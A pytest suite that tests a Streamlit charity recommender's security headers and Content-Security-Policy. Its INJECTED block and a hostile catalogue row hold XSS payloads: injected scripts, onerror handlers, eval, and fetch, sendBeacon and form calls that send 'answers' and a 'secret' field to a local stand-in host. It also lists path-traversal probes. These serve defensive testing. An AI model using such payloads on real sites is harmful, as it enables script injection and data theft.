"""The headers of every answer, and that a browser that obeys them still shows all of the page."""

import re
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pandas as pd
import pytest
from playwright.sync_api import Browser, Page, expect
from served import Served, ask, serving

from recommender import RecommenderError
from recommender.building import build_index
from recommender.priorities import Priorities
from recommender.ui import headers, state

Visits = Callable[..., object]
PAGE = "<html><head>{}</head><body></body></html>"
GALLERY = '''
import pandas as pd
import streamlit as st
from recommender.ui import headers

CODE = """
export default ({ parentElement }) => {
  const drawn = document.createElement('p')
  drawn.textContent = 'drawn by a script'
  parentElement.append(drawn)
}
"""
if __name__ == "__main__":
    table = pd.DataFrame({"a": [1, 2], "b": ["x", "y"]})
    st.html("<p style='color: teal'>html</p>")
    st.file_uploader("upload")
    st.download_button("download", "text", "text.txt")
    st.dataframe(table)
    st.table(table)
    with st.expander("fold", expanded=True):
        st.segmented_control("segments", ["1", "2"])
    with st.popover("popover"):
        st.write("inside")
    st.tabs(["one", "two"])
    st.data_editor(table)
    st.number_input("number")
    st.text_input("text")
    st.slider("slider")
    st.select_slider("steps", [1, 2])
    st.selectbox("select", ["1", "2"])
    st.multiselect("several", ["1", "2"])
    st.date_input("date")
    st.toggle("toggle")
    st.metric("metric", 1)
    st.progress(0.5)
    st.link_button("link", "https://charity.example")
    st.code("code to copy")
    axes = {axis: {"field": "a", "type": "quantitative"} for axis in "xy"}
    st.vega_lite_chart(table, {"mark": "point", "encoding": axes})
    st.components.v2.component("drawn", js=CODE)()
    with st.form("form"):
        st.form_submit_button("submit")
    st.title("end")
else:
    app = st.App(__file__, middleware=headers.middleware())
'''


def directives(policy: str) -> dict[str, list[str]]:
    parts = (part.split() for part in policy.split(";"))
    return {name: values for name, *values in parts}


def test_the_policy_lets_through_what_is_ours_and_nothing_else() -> None:
    policy = directives(headers.policy())
    assert policy["default-src"] == policy["frame-ancestors"] == policy["base-uri"] == ["'none'"]
    allowed = {value for values in policy.values() for value in values}
    hashes = {value for value in allowed if value.startswith("'sha256-")}
    assert allowed - hashes == {
        "'none'",
        "'self'",
        "'unsafe-inline'",
        "'wasm-unsafe-eval'",
        "blob:",
        "data:",
    }
    assert hashes <= set(policy["script-src"])
    assert "'unsafe-inline'" not in policy["script-src"]


def test_a_script_in_the_page_is_named_by_its_hash(tmp_path: Path) -> None:
    index = tmp_path / "index.html"
    index.write_text(PAGE.format("<!-- <script>no</script> --><script>doSomething();</script>"))
    # Worked out by openssl: printf 'doSomething();' | openssl dgst -sha256 -binary | base64
    assert headers.inline_scripts(index) == ["doSomething();"]
    known = "'sha256-RFWPLDbv2BY+rCkDzsE+0fr8ylGr2R2faWMhq4lfEQc='"
    assert directives(headers.policy(index))["script-src"][-1] == known


@pytest.mark.parametrize(
    ("head", "said"),
    [
        ("", "no inline script"),
        ("<script src='./a.js'></script>", "no inline script"),
        ("<script>1</script><script src='https://cdn.example/a.js'></script>", "cdn.example"),
        ("<script>1</script><script src='//cdn.example/a.js'></script>", "cdn.example"),
        ("<script>1</script><link href='https://fonts.example/a.css'>", "fonts.example"),
        ("<script>1</script><img src=a onerror=f()>", "onerror"),
        ("<script>1</script><base href='/x/'>", "base"),
    ],
)
def test_a_page_of_another_shape_stops_the_start(tmp_path: Path, head: str, said: str) -> None:
    index = tmp_path / "index.html"
    index.write_text(PAGE.format(head))
    with pytest.raises(RecommenderError, match=re.escape(said)) as error:
        headers.policy(index)
    assert "requirements.txt" in str(error.value)


def test_a_page_that_is_missing_stops_the_start(tmp_path: Path) -> None:
    with pytest.raises(RecommenderError, match="can't be read"):
        headers.policy(tmp_path / "index.html")


def test_the_server_does_not_start_without_its_policy(tmp_path: Path) -> None:
    other = "\nfrom recommender.ui import headers\nheaders.inline_scripts = lambda _: 1 / 0"
    with (
        pytest.raises(AssertionError, match="ZeroDivisionError"),
        serving(tmp_path / "log.txt", before=other),
    ):
        pass


@pytest.mark.parametrize(
    ("path", "method", "status"),
    [
        ("/", "GET", 200),
        ("/", "HEAD", 200),
        ("/method", "GET", 200),
        ("/favicon.png", "GET", 200),
        ("/_stcore/health", "GET", 200),
        ("/_stcore/health", "OPTIONS", 204),
        ("/_stcore/host-config", "GET", 200),
        ("/_stcore/metrics", "GET", 200),
        ("/_stcore/agent/openapi.json", "GET", 200),
        ("/_stcore/upload_file/a/b", "PUT", 403),
        ("/method/", "GET", 301),
        ("//evil.example", "GET", 400),
        ("/../app.py", "GET", 400),
        ("/media/none", "GET", 404),
        ("/component/none/x.js", "GET", 404),
        ("/_stcore/bidi-components/none/x.js", "GET", 404),
        ("/", "TRACE", 405),
    ],
)
def test_every_answer_has_the_headers(server: object, path: str, method: str, status: int) -> None:
    answer = ask(server.url, path, method)
    assert answer.status == status
    for name, value in headers.sent().items():
        assert answer.headers[name.lower()] == value
    assert "no-" in answer.headers["cache-control"] or path == "/favicon.png"


def test_scripts_and_fonts_have_the_headers_and_may_be_kept(server: object) -> None:
    page = ask(server.url, "/").body.decode()
    files = re.findall(r'(?:src|href)="\.(/static/[^"]+)"', page)
    assert {Path(file).suffix for file in files} >= {".js", ".woff2", ".css"}
    for file in files[:5] + files[-5:]:
        answer = ask(server.url, file)
        assert answer.status == 200
        assert headers.sent().items() <= {
            n.title(): v for n, v in answer.headers.items()
        }.items() or (answer.headers["content-security-policy"] == headers.policy())
        assert "max-age" in answer.headers["cache-control"]


class Foreign(BaseHTTPRequestHandler):
    """Another site: it notes what it is asked for, and frames the page it is told to."""

    asked: list[str] = []  # noqa: RUF012 - all handlers of the one test server share it

    def do_POST(self) -> None:
        self.do_GET()

    def do_GET(self) -> None:
        self.asked.append(self.path)
        framed = self.path.partition("?frame=")[2]
        body = f"<!doctype html><iframe src='{framed}'></iframe>".encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def foreign() -> Iterator[str]:
    """The address of another site."""
    Foreign.asked = []
    site = ThreadingHTTPServer(("127.0.0.1", 0), Foreign)
    threading.Thread(target=site.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{site.server_port}"
    site.shutdown()
    site.server_close()


def complaints(visit: object, own: str = "") -> list[str]:
    """What the console holds but for Streamlit's own look-ups below /method."""
    return [
        message.text
        for message in visit.console
        if message.type in ("error", "warning")
        and not message.location["url"].startswith(f"{visit.url}/method/_stcore/")
    ] + visit.errors


@pytest.mark.browser
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_pages_are_whole_under_the_policy(visit: Visits, scheme: str) -> None:
    v = visit(scheme=scheme)
    v.answer("Medical aid", "5")
    v.unfold_priorities()
    views = v.page.locator(f".st-key-{state.VIEW}").get_by_role("radio")
    for view in reversed(range(views.count())):
        before = v.page.evaluate("window.runs")
        views.nth(view).click()
        v.page.wait_for_function("before => window.runs > before", arg=before)
        downloads = v.page.get_by_test_id("stDownloadButton").get_by_role("button")
        for file in range(downloads.count()):
            with v.page.expect_download() as download:
                downloads.nth(file).click()
            assert Path(download.value.path()).stat().st_size > 100
    v.page.get_by_role("radio", name="한국어").click()
    expect(v.page.locator("html")).to_have_attribute("lang", "ko")  # by a component's script
    v.settle().page.get_by_test_id("stPageLink-NavLink").last.click()
    expect(v.page.locator("table").first).to_be_visible()
    v.settle()
    assert complaints(v) == []


VIOLATIONS = """
  window.violations = []
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
    violations.push(`${effectiveDirective} ${blockedURI}`))
"""
INJECTED = """
  site => {
    const made = (tag, values) => Object.assign(document.createElement(tag), values)
    const add = (tag, values) => document.body.append(made(tag, values))
    add('script', { textContent: 'window.ran = "inline"' })
    add('script', { src: `${site}/script.js` })
    add('script', { src: 'data:text/javascript,window.ran="data"' })
    add('img', { src: `${site}/pixel.png` })
    add('link', { rel: 'stylesheet', href: `${site}/style.css` })
    add('style', { textContent: `@import url(${site}/import.css);
      body { background: url(${site}/background.png) }
      @font-face { font-family: theirs; src: url(${site}/font.woff2) }
      h1 { font-family: theirs }` })
    add('iframe', { src: `${site}/frame` })
    add('object', { data: `${site}/object` })
    add('video', { src: `${site}/video.mp4` })
    const box = document.body.appendChild(document.createElement('div'))
    box.innerHTML = `<a id="go" href="javascript:void(window.ran='link')">go</a>
      <p id="click" onclick="window.ran='attribute'">press</p>
      <img src=x onerror="window.ran='onerror'">
      <form id="form" action="${site}/form"><input name="answers" value="secret"></form>`
    document.querySelector('#click').click()
    document.querySelector('#go').click()
    document.querySelector('#form').submit()
    setTimeout(() => { try { window.ran = eval('"eval"') } catch {} })
    fetch(`${site}/fetch`).catch(() => {})
    navigator.sendBeacon(`${site}/beacon`, 'answers')
    try { new WebSocket(site.replace('http', 'ws') + '/socket') } catch {}
    const base = document.head.appendChild(document.createElement('base'))
    base.href = site
    add('img', { src: 'relative.png' })
  }
"""


@pytest.mark.browser
def test_nothing_that_got_into_the_page_runs_or_calls_out(visit: Visits, foreign: str) -> None:
    v = visit()
    v.page.evaluate(VIOLATIONS)
    v.page.evaluate(INJECTED, foreign)
    v.page.wait_for_timeout(1000)
    assert Foreign.asked == []
    assert v.page.evaluate("window.ran") is None
    blocked = {violation.split()[0] for violation in v.page.evaluate("violations")}
    assert blocked >= {"script-src-elem", "script-src-attr", "img-src", "style-src-elem"}
    assert blocked >= {"font-src", "frame-src", "object-src", "connect-src", "form-action"}
    assert blocked >= {"base-uri", "media-src", "script-src"}


@pytest.mark.browser
def test_a_catalogue_full_of_attacks_is_shown_and_asks_nobody(
    browser: Browser, foreign: str, priorities: Priorities, tmp_path: Path
) -> None:
    attack = (
        f"<script src='{foreign}/s.js'></script><img src='{foreign}/i.png' onerror='alert(1)'>"
        f"<style>@import url({foreign}/c.css)</style>![x]({foreign}/m.png)"
    )
    row = {
        "charity_id": "a",
        "name": f"Name {attack}",
        "description": f"It runs a school {attack}.",
    }
    pd.DataFrame([row, row | {"charity_id": "b"}]).to_parquet(tmp_path / "hostile.parquet")
    build_index(tmp_path / "hostile.parquet", tmp_path / "hostile.index", priorities, workers=1)
    index = ["--", "--index", str(tmp_path / "hostile.index")]
    context = browser.new_context()
    page = context.new_page()
    page.add_init_script(VIOLATIONS)
    dialogs: list[object] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog), dialog.dismiss()))
    with serving(tmp_path / "log.txt", *index) as served:
        page.goto(served.url)
        expect(page.get_by_text(f"Name {attack}").first).to_be_visible(timeout=20_000)
        page.wait_for_timeout(500)
        assert page.evaluate("violations") == []  # nothing of it even became part of the page
    assert (Foreign.asked, dialogs) == ([], [])
    context.close()


@pytest.mark.browser
def test_without_the_policy_it_would_run_and_call_out(browser: Browser, foreign: str) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{foreign}/plain")
    page.evaluate(INJECTED.replace("document.querySelector('#form').submit()", ""), foreign)
    page.wait_for_timeout(500)
    assert page.evaluate("window.ran")
    assert {"/script.js", "/pixel.png", "/style.css", "/fetch"} <= set(Foreign.asked)
    context.close()


def framed(page: Page) -> str:
    """The text of the frame in a page, or the address of what stands for a refusal."""
    page.wait_for_timeout(1500)
    return page.frames[1].url


@pytest.mark.browser
def test_no_other_site_can_frame_the_page(browser: Browser, server: object, foreign: str) -> None:
    context = browser.new_context()
    page = context.new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.goto(f"{foreign}/?frame={server.url}/")
    assert framed(page).startswith("chrome-error:")
    assert any("frame-ancestors" in text for text in said)
    page.goto(f"{foreign}/?frame={foreign}/inner")  # another page can be framed
    assert framed(page) == f"{foreign}/inner"
    context.close()


@pytest.fixture(scope="module")
def gallery(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A page of widgets that ours has or may come to have, under the same policy."""
    folder = tmp_path_factory.mktemp("gallery")
    script = folder / "gallery.py"
    script.write_text(GALLERY, encoding="utf-8")
    with serving(folder / "log.txt", script=script) as served:
        yield served


@pytest.mark.browser
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_widgets_work_under_the_policy(browser: Browser, gallery: Served, scheme: str) -> None:
    context = browser.new_context(color_scheme=scheme, viewport={"width": 1280, "height": 5000})
    page = context.new_page()
    said: list[str] = []
    page.on("console", lambda m: m.type in ("error", "warning") and said.append(m.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    page.goto(gallery.url)
    expect(page.get_by_role("heading", name="end")).to_be_visible(timeout=20_000)
    expect(page.get_by_text("drawn by a script")).to_be_visible()
    page.locator("input[type=file]").set_input_files(
        {"name": "mine.csv", "mimeType": "text/csv", "buffer": b"a,b\n1,2\n"}
    )
    expect(page.get_by_text("mine.csv")).to_be_visible()
    expect(page.get_by_test_id("stFileUploaderFileErrorMessage")).to_have_count(0)
    page.get_by_role("button", name="submit").click()
    with page.expect_download():
        page.get_by_role("button", name="download", exact=True).click()
    expect(
        page.get_by_test_id("stVegaLiteChart").first.locator("canvas, svg").first
    ).to_be_visible()
    page.wait_for_timeout(500)
    assert [text for text in said if not text.startswith("WARN ")] == []  # Vega's, of its data
    context.close()
